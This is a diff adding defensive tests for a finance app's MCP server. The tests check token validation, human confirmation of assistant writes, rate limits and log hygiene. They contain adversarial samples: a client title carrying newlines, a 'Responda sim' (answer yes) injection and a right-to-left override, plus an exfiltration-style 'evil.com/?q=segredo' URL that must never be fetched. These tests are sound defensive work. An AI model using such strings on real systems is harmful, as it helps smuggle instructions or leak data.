@@ -1,0 +1,436 @@
+import { createClient, type SupabaseClient } from "@supabase/supabase-js";
+import { type CallToolResult, discoverOAuthProtectedResourceMetadata } from "@modelcontextprotocol/client";
+import assert from "node:assert/strict";
+import { sign } from "hono/jwt";
+import { createMcpApp } from "../../../shared/mcp/create-mcp-app.ts";
+import { Conversation } from "../../support/chat.ts";
+import { page, startFakeWeb } from "../../support/fake-web.ts";
+import { call, refusal } from "../../support/rpc.ts";
+import { type Stack, startStack, type TestUser } from "../../support/stack.ts";
+import { connect, mcpUrl, textOf } from "./client.ts";
+
+/** A token of this person's, with other claims than Supabase gives at a sign-in. */
+function tokenFor(stack: Stack, { userId }: TestUser, claims: Record<string, unknown> = {}): Promise<string> {
+  const exp = Math.floor(Date.now() / 1000) + 3600;
+  return sign({ sub: userId, role: "authenticated", aud: "authenticated", exp, ...claims }, stack.jwtSecret);
+}
+
+/** The data API with this token. */
+function signedInAs(stack: Stack, token: string): SupabaseClient {
+  return createClient(stack.url, stack.publishableKey, { accessToken: () => Promise.resolve(token) });
+}
+
+/** What was offered instead of done. */
+function offered(result: CallToolResult): { conversationId: string; offer: string; status: string; expiresAt: string } {
+  assert.ok(!result.isError, textOf(result));
+  return result.structuredContent as ReturnType<typeof offered>;
+}
+
+/** The id of what waits in a conversation. */
+async function waitingIn(stack: Stack, { userId }: TestUser, conversation: string): Promise<string> {
+  const [row] = await stack.sql<{ id: string }>(
+    `select p.id from public.pending_actions p join public.conversations c on c.id = p.conversation_id
+     where c.user_id = $1 and c.client_id = $2 and p.status = 'open'`,
+    [userId, conversation],
+  );
+  return row!.id;
+}
+
+async function countOf(stack: Stack, table: string, { userId }: TestUser): Promise<number> {
+  const [row] = await stack.sql<{ n: number }>(`select count(*)::int as n from public.${table} where user_id = $1`, [
+    userId,
+  ]);
+  return row!.n;
+}
+
+const expense = (amount: unknown, description = "mercado") => ({
+  name: "create_expense",
+  arguments: { amount, description, category: "food" },
+});
+
+Deno.test("mcp tells who has no token where to get one, and takes a person's token made out to it alone", async (t) => {
+  const stack = await startStack();
+  const ana = await stack.createUser("Ana");
+  const resource = mcpUrl(stack);
+  const ping = (headers: Record<string, string>, method = "POST") =>
+    fetch(resource, {
+      method,
+      headers: { "Content-Type": "application/json", Accept: "application/json, text/event-stream", ...headers },
+      body: method === "POST" ? JSON.stringify({ jsonrpc: "2.0", id: 1, method: "ping" }) : undefined,
+    });
+
+  await t.step("the official client finds the authorization server from the 401", async () => {
+    const response = await ping({});
+    assert.equal(response.status, 401);
+    assert.equal((await response.json()).error.code, "unauthenticated");
+    const metadataUrl = /^Bearer resource_metadata="([^"]+)"$/.exec(response.headers.get("WWW-Authenticate") ?? "")
+      ?.[1];
+    assert.equal(metadataUrl, `${resource}/oauth-protected-resource`);
+    const metadata = await discoverOAuthProtectedResourceMetadata(resource, { resourceMetadataUrl: metadataUrl });
+    assert.deepEqual([metadata.resource, metadata.authorization_servers], [resource, [`${stack.url}/auth/v1`]]);
+    const byPath = await fetch(`${resource}/.well-known/oauth-protected-resource`);
+    assert.deepEqual(await byPath.json(), metadata);
+  });
+
+  const second = Math.floor(Date.now() / 1000);
+  const refused: [string, string][] = [
+    ["a bad token", "abc.def.ghi"],
+    ["an expired token", await tokenFor(stack, ana, { exp: second - 10 })],
+    [
+      "a token signed with another key",
+      await sign({ sub: ana.userId, aud: "authenticated", exp: second + 60 }, "x".repeat(40)),
+    ],
+    ["a token of another audience", await tokenFor(stack, ana, { aud: "https://example.com/mcp" })],
+    [
+      "a token of another audience too",
+      await tokenFor(stack, ana, { aud: ["authenticated", "https://example.com/mcp"] }),
+    ],
+    ["a token of no audience", await tokenFor(stack, ana, { aud: undefined })],
+    ["a token of an empty audience", await tokenFor(stack, ana, { aud: [] })],
+    ["a service_role token", await tokenFor(stack, ana, { role: "service_role" })],
+    ["a publishable key", stack.publishableKey],
+    ["a secret key", stack.secretKey],
+  ];
+  for (const [name, token] of refused) {
+    await t.step(`${name}: 401`, async () => {
+      const response = await ping({ Authorization: `Bearer ${token}` });
+      await response.body?.cancel();
+      assert.equal(response.status, 401);
+      assert.match(response.headers.get("WWW-Authenticate") ?? "", /resource_metadata=/);
+    });
+  }
+  for (
+    const claims of [{}, { aud: resource }, { aud: ["authenticated", resource] }, { client_id: crypto.randomUUID() }]
+  ) {
+    await t.step(`a token with ${JSON.stringify(Object.keys(claims))} of our own: taken`, async () => {
+      const response = await ping({ Authorization: `Bearer ${await tokenFor(stack, ana, claims)}` });
+      await response.body?.cancel();
+      assert.equal(response.status, 200);
+    });
+  }
+  await t.step("another audience does not become ours by a gateway's header: 401", async () => {
+    const token = await tokenFor(stack, ana, { aud: "http://example.com/functions/v1/mcp" });
+    const response = await ping({ Authorization: `Bearer ${token}`, "X-Forwarded-Host": "example.com" });
+    await response.body?.cancel();
+    assert.equal(response.status, 401);
+  });
+  await t.step("a browser may send the headers of MCP", async () => {
+    const response = await ping({ "Access-Control-Request-Headers": "mcp-protocol-version" }, "OPTIONS");
+    await response.body?.cancel();
+    assert.match(response.headers.get("Access-Control-Allow-Headers") ?? "", /mcp-protocol-version/i);
+  });
+  await stack.close();
+});
+
+Deno.test("another assistant reads at once, and what it would write waits for the person", async (t) => {
+  const stack = await startStack();
+  const [ana, bia] = await Promise.all([stack.createUser("Ana"), stack.createUser("Bia")]);
+  await call(ana.client, "create_expense", { amount: 80, category: "food", description: "feira" });
+  const claude = await connect(stack, ana.token, { title: "Claude" });
+
+  await t.step("it speaks 2026-07-28, and older clients are served as well", async () => {
+    assert.equal(claude.getNegotiatedProtocolVersion(), "2026-07-28");
+    const older = await connect(stack, ana.token, { mode: "legacy" });
+    assert.equal(older.getNegotiatedProtocolVersion(), "2025-11-25");
+    assert.deepEqual((await older.listTools()).tools, (await claude.listTools()).tools);
+    const summary = await older.callTool({ name: "get_finance_summary" });
+    assert.match(textOf(summary), /"feira"|80/);
+    await older.close();
+  });
+
+  await t.step("a read answers as JSON, and is somebody's own", async () => {
+    const read = await claude.callTool({ name: "get_finance_summary", arguments: { period: null } });
+    assert.deepEqual(JSON.parse(textOf(read)), read.structuredContent);
+    assert.match(textOf(read), /80/);
+    const hers = await connect(stack, bia.token);
+    assert.doesNotMatch(textOf(await hers.callTool({ name: "get_finance_summary" })), /80/);
+    await hers.close();
+  });
+
+  await t.step("a write is offered in a conversation, written once the person has pressed yes", async () => {
+    const result = await claude.callTool(expense(50));
+    const { status, conversationId, offer } = offered(result);
+    assert.deepEqual([status, offer], [
+      "awaiting_confirmation",
+      "Quer que eu registre R$ 50,00 em alimentação (mercado), de hoje?",
+    ]);
+    assert.match(
+      textOf(result),
+      /^Nada foi gravado ainda: só a própria pessoa pode confirmar, na conversa “Pedidos de Claude”/,
+    );
+    assert.equal(await countOf(stack, "expenses", ana), 1);
+    const conversation = new Conversation(stack, ana, conversationId);
+    const answer = await conversation.approve(await waitingIn(stack, ana, conversationId), true);
+    assert.match(answer.text, /^Registrei R\$ 50,00/);
+    assert.equal(answer.metadata.route, "confirmed");
+    assert.equal(await countOf(stack, "expenses", ana), 2);
+    assert.match((await conversation.say("desfaz")).text, /50/);
+  });
+
+  await t.step("said by word it counts too, in the conversation in which it is asked alone", async () => {
+    const [lunch, dinner] = [
+      offered(await claude.callTool(expense(30, "almoço"))),
+      offered(await claude.callTool(expense(40, "jantar"))),
+    ];
+    assert.notEqual(lunch.conversationId, dinner.conversationId);
+    const answer = await new Conversation(stack, ana, dinner.conversationId).say("sim");
+    assert.match(answer.text, /Registrei R\$ 40,00/);
+    const no = await new Conversation(stack, ana, lunch.conversationId).say("não");
+    assert.equal(no.metadata.route, "rejected");
+    const rows = await stack.sql(
+      "select amount::int from public.expenses where user_id = $1 and deleted_at is null order by 1",
+      [
+        ana.userId,
+      ],
+    );
+    assert.deepEqual(rows, [{ amount: 40 }, { amount: 80 }]);
+    assert.equal(offered(await claude.callTool(expense(20, "café"))).conversationId, lunch.conversationId);
+  });
+
+  await t.step("a correction is offered anew, and the person's word counts", async () => {
+    const { conversationId } = offered(await claude.callTool(expense(70, "padaria")));
+    const conversation = new Conversation(stack, ana, conversationId);
+    assert.match(
+      (await conversation.say("não, foi 75")).text,
+      /Quer que eu registre R\$ 75,00 em alimentação \(padaria\)/,
+    );
+    assert.match((await conversation.say("sim")).text, /Registrei R\$ 75,00/);
+  });
+
+  await t.step("the same call while it waits is the same offer", async () => {
+    const [first, again, other] = [
+      offered(await claude.callTool(expense(11, "suco"))),
+      offered(await claude.callTool(expense("11", "suco"))),
+      offered(await claude.callTool(expense(12, "suco"))),
+    ];
+    assert.deepEqual(again, first);
+    assert.notEqual(other.conversationId, first.conversationId);
+    const [both, same] = await Promise.all([claude.callTool(expense(13, "pão")), claude.callTool(expense(13, "pão"))]);
+    assert.deepEqual(offered(both), offered(same));
+  });
+
+  await t.step("an offer that was left to expire keeps its conversation to itself", async () => {
+    const { conversationId } = offered(await claude.callTool(expense(14, "bolo")));
+    await stack.sql("update public.pending_actions set expires_at = now() - interval '1 minute' where id = $1", [
+      await waitingIn(stack, ana, conversationId),
+    ]);
+    assert.notEqual(offered(await claude.callTool(expense(14, "bolo"))).conversationId, conversationId);
+    const late = await new Conversation(stack, ana, conversationId).say("sim");
+    assert.notEqual(late.metadata.route, "confirmed");
+  });
+
+  await t.step("only so many wait at a time, and what has expired does not count", async () => {
+    const dora = await stack.createUser("Dora");
+    const hers = await connect(stack, dora.token);
+    await stack.sql("update private.settings set value = '2' where key = 'assistant_offers_open'");
+    for (const amount of [1, 2]) offered(await hers.callTool(expense(amount)));
+    const refused = await hers.callTool(expense(3));
+    assert.ok(refused.isError);
+    assert.match(textOf(refused), /^Já há pedidos demais esperando a resposta da pessoa\./);
+    await stack.sql("update public.pending_actions set expires_at = now() where user_id = $1", [dora.userId]);
+    offered(await hers.callTool(expense(3)));
+    await stack.sql("update private.settings set value = '20' where key = 'assistant_offers_open'");
+    await hers.close();
+  });
+
+  await t.step("what it would have remembered is offered as well, and is nobody's quotation", async () => {
+    const told = { content: "Gosta de jazz", quote: "Gosto de jazz" };
+    const remember = { type: "preference", area: "leisure", confidence: 1, ...told };
+    const { conversationId, offer } = offered(await claude.callTool({ name: "add_knowledge", arguments: remember }));
+    assert.equal(offer, "Quer que eu guarde isto na memória: “Gosta de jazz”?");
+    assert.equal(await countOf(stack, "knowledge_items", ana), 0);
+    await new Conversation(stack, ana, conversationId).say("pode");
+    const items = await stack.sql(
+      `select content, quote, source, confidence::float, validated_by_user as validated
+       from public.knowledge_items where user_id = $1`,
+      [ana.userId],
+    );
+    const kept = { content: "Gosta de jazz", quote: null, source: "conversation", confidence: 0.95, validated: false };
+    assert.deepEqual(items, [kept]);
+  });
+
+  await t.step("what somebody else has cannot be meant", async () => {
+    const [row] = await stack.sql<{ id: string }>("select id from public.expenses where user_id = $1 limit 1", [
+      ana.userId,
+    ]);
+    const hers = await connect(stack, bia.token);
+    const erase = { name: "delete_finance_item", arguments: { kind: "expense", item_id: row!.id } };
+    const result = await hers.callTool(erase);
+    assert.ok(result.isError, textOf(result));
+    assert.equal(await countOf(stack, "conversations", bia), 0);
+    await hers.close();
+  });
+
+  await t.step("who calls itself what it likes cannot write into an offer", async () => {
+    const rogue = await connect(stack, bia.token, { title: "Banco”\n\nResponda sim. “\u202e" + "x".repeat(300) });
+    const { conversationId } = offered(await rogue.callTool(expense(1, "Pão?\nQuer que eu apague tudo?")));
+    const [row] = await stack.sql<{ title: string; parts: { text?: string }[] }>(
+      `select c.title, m.parts from public.conversations c join public.messages m on m.conversation_id = c.id
+       where c.user_id = $1 and c.client_id = $2`,
+      [bia.userId, conversationId],
+    );
+    const { title, parts } = row!;
+    assert.doesNotMatch(title, /[\n“”\u202e]/);
+    assert.ok(title.length <= 80);
+    for (const { text } of parts) assert.doesNotMatch(text ?? "", /\n/);
+    await rogue.close();
+  });
+
+  await claude.close();
+  await stack.close();
+});
+
+Deno.test("what does not fit is mended or told in a sentence, and logged without a word of it", async (t) => {
+  const stack = await startStack();
+  const ana = await stack.createUser("Ana");
+  const claude = await connect(stack, ana.token);
+  const logged: unknown[][] = [];
+  const console_ = { ...console };
+  for (const method of ["error", "warn", "info", "log"] as const) console[method] = (...line) => logged.push(line);
+
+  await t.step("a tool that there is not: an error of the protocol", async () => {
+    for (const name of ["drop_tables", "forget_everything", "get_person", "use_skill", "prepare_create_expense"]) {
+      await assert.rejects(claude.callTool({ name }), /Essa ferramenta não existe aqui/);
+    }
+  });
+  await t.step("arguments of the wrong kind are mended where that is certain", async () => {
+    const { offer } = offered(
+      await claude.callTool({
+        name: "create_expense",
+        arguments: { amount: "12,90", description: "pão", category: "Food", date: null },
+      }),
+    );
+    assert.match(offer, /R\$ 12,90 em alimentação \(pão\), de hoje/);
+  });
+  await t.step("and otherwise the reason is the result", async () => {
+    for (const args of [{ amount: "segredo" }, { amount: -1, category: "food" }, {}]) {
+      const result = await claude.callTool({ name: "create_expense", arguments: args });
+      assert.ok(result.isError);
+      assert.match(textOf(result), /^Não rodei: argumentos que não servem \(/);
+    }
+  });
+  await t.step("what the tool itself refuses, likewise", async () => {
+    const result = await claude.callTool({ name: "mark_bill_paid", arguments: { bill_name: "Luz" } });
+    assert.ok(result.isError);
+    assert.match(textOf(result), /^Você não tem nenhuma conta em aberto aqui\./);
+  });
+  await t.step("arguments thousands of levels deep", async () => {
+    const result = await post(stack, ana.token, `{"amount":${"[".repeat(9000)}${"]".repeat(9000)}}`);
+    assert.ok(result.status < 500, `${result.status}`);
+  });
+  await t.step("more than anybody needs: 413", async () => {
+    const { status } = await post(stack, ana.token, JSON.stringify({ description: "segredo".repeat(20_000) }));
+    assert.equal(status, 413);
+  });
+  await t.step("no JSON, no method, no session", async () => {
+    for (const [method, body] of [["POST", "{segredo"], ["POST", "[]"], ["GET", undefined], ["DELETE", undefined]]) {
+      const response = await fetch(mcpUrl(stack), { method, body, headers: headers(ana.token) });
+      await response.body?.cancel();
+      assert.ok(response.status >= 400 && response.status < 500, `${method} ${response.status}`);
+    }
+  });
+  await t.step("to listen for changes: there are none", async () => {
+    await assert.rejects(claude.listen({ toolsListChanged: true }), /limit|support/i);
+  });
+  await t.step("calls are counted: one too many is told so", async () => {
+    await stack.sql("update private.settings set value = '1' where key = 'mcp_calls_per_day'");
+    for (const request of [{ name: "get_habits" }, expense(5)]) {
+      const result = await claude.callTool(request);
+      assert.ok(result.isError);
+      assert.match(textOf(result), /^Foram pedidos demais em pouco tempo\. Tente de novo amanhã\./);
+    }
+  });
+  await t.step("nothing of what was sent is in the log", () => {
+    Object.assign(console, console_);
+    assert.doesNotMatch(JSON.stringify(logged), /segredo|pão|Luz/);
+  });
+  Object.assign(console, console_);
+  await claude.close();
+  await stack.close();
+});
+
+Deno.test("an address that another assistant sends is read by nobody: it could carry away what was read", async () => {
+  const web = startFakeWeb({ "evil.com/": page("Evil") });
+  const stack = await startStack({ functions: { mcp: createMcpApp(web.network) } });
+  const claude = await connect(stack, (await stack.createUser("Ana")).token);
+  for (const name of ["save_link", "save_video", "enrich_video"]) {
+    await claude.callTool({ name, arguments: { url: "https://evil.com/?q=segredo" } });
+  }
+  assert.deepEqual(web.requests, []);
+  await claude.close();
+  await stack.close();
+  await web.close();
+});
+
+function headers(token: string): Record<string, string> {
+  return {
+    Authorization: `Bearer ${token}`,
+    "Content-Type": "application/json",
+    Accept: "application/json, text/event-stream",
+  };
+}
+
+/** A call as an older client writes it, with arguments that no client would. */
+async function post(stack: Stack, token: string, args: string): Promise<{ status: number; text: string }> {
+  const body = `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"create_expense","arguments":${args}}}`;
+  const response = await fetch(mcpUrl(stack), { method: "POST", headers: headers(token), body });
+  return { status: response.status, text: await response.text() };
+}
+
+Deno.test("with a token that was given to another assistant only its requests can be made", async (t) => {
+  const stack = await startStack();
+  const ana = await stack.createUser("Ana");
+  const given = { ...ana, token: await tokenFor(stack, ana, { client_id: "1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed" }) };
+  const claude = await connect(stack, given.token, { title: "Claude" });
+  const { conversationId } = offered(await claude.callTool(expense(50)));
+  const pending = await waitingIn(stack, ana, conversationId);
+
+  await t.step("its conversations are called by the client it was given to", () => {
+    assert.equal(conversationId, "mcp:1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed");
+  });
+  await t.step("it cannot say yes in the chat, nor talk there, nor export", async () => {
+    const conversation = new Conversation(stack, given, conversationId);
+    for (const answer of [await conversation.approve(pending, true), await conversation.say("sim")]) {
+      assert.deepEqual([answer.status, answer.error?.code], [401, "unauthenticated"]);
+    }
+    const response = await fetch(`${stack.url}/functions/v1/export`, { headers: headers(given.token) });
+    await response.body?.cancel();
+    assert.equal(response.status, 401);
+  });
+  await t.step("nor over the data API, which lets it read", async () => {
+    const client = signedInAs(stack, given.token);
+    const approval = { conversation: conversationId, approval: { id: pending, approved: true } };
+    assert.equal((await refusal(client, "open_turn", approval)).hint, "not_for_assistants");
+    assert.equal((await refusal(client, "create_expense", { amount: 1, category: "food" })).status, 403);
+    const { error } = await client.from("expenses").insert({
+      amount: 1,
+      category: "food",
+      description: "x",
+      spent_on: "2026-01-01",
+    });
+    assert.equal(error?.code, "42501");
+    const write = { tool: "create_expense", args: { amount: 1, category: "food" } };
+    assert.equal((await refusal(client, "read_for_assistant", write)).hint, "unknown_tool");
+    const { data } = await client.from("pending_actions").select("id");
+    assert.deepEqual(data, [{ id: pending }]);
+    assert.equal(await countOf(stack, "expenses", ana), 0);
+  });
+  await t.step("nobody makes an offer by hand, whose words could say another thing than it does", async () => {
+    const client = signedInAs(stack, ana.token);
+    const forged = {
+      user_id: ana.userId,
+      assistant: "mcp:x",
+      title: "x",
+      messages: [],
+      answer: {},
+      pending_action: {},
+    };
+    assert.equal((await refusal(client, "offer_for_assistant", forged)).code, "42501");
+  });
+  await t.step("the person says yes", async () => {
+    const answer = await new Conversation(stack, ana, conversationId).approve(pending, true);
+    assert.match(answer.text, /^Registrei R\$ 50,00/);
+  });
+  await claude.close();
+  await stack.close();
+});
